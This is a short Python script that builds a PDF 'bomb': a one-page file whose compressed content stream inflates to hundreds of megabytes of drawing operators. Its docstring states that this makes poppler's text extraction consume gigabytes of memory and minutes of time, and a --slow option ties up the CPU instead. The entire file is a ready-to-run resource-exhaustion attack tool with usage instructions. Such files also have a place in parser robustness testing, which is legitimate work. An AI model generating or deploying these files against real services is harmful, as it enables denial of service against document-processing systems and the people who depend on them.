#!/usr/bin/env python3
"""Writes a small PDF whose one page's content stream inflates to about 256 MB of text-drawing
operators: poppler extracting its text takes gigabytes and a minute or more.

With --slow, the stream holds `q Q` (save and restore the graphics state) instead: poppler
takes seconds per 100 MB of it but no more memory than for an empty page.

Usage: make-pdf-bomb.py [--slow] OUTPUT [MEGABYTES]   (MEGABYTES of inflated content, 256 by default)
Standard library only (zlib)."""
import sys
import zlib


def content_stream(megabytes, slow):
    """The page's content, deflated a block at a time: the inflated text never sits in memory."""
    if slow:
        block = b"q Q\n" * 250000
    else:
        block = b"BT /F1 12 Tf 72 712 Td (xxxxxxxxxxxxxxxx) Tj ET\n" * 20000
    compressor = zlib.compressobj(9)
    chunks = []
    written = 0
    while written < megabytes << 20:
        chunks.append(compressor.compress(block))
        written += len(block)
    chunks.append(compressor.flush())
    return b"".join(chunks)


def pdf(stream):
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def main():
    arguments = sys.argv[1:]
    slow = "--slow" in arguments
    arguments = [argument for argument in arguments if argument != "--slow"]
    if len(arguments) not in (1, 2):
        sys.exit(__doc__)
    megabytes = int(arguments[1]) if len(arguments) == 2 else 256
    with open(arguments[0], "wb") as output:
        output.write(pdf(content_stream(megabytes, slow)))


if __name__ == "__main__":
    main()
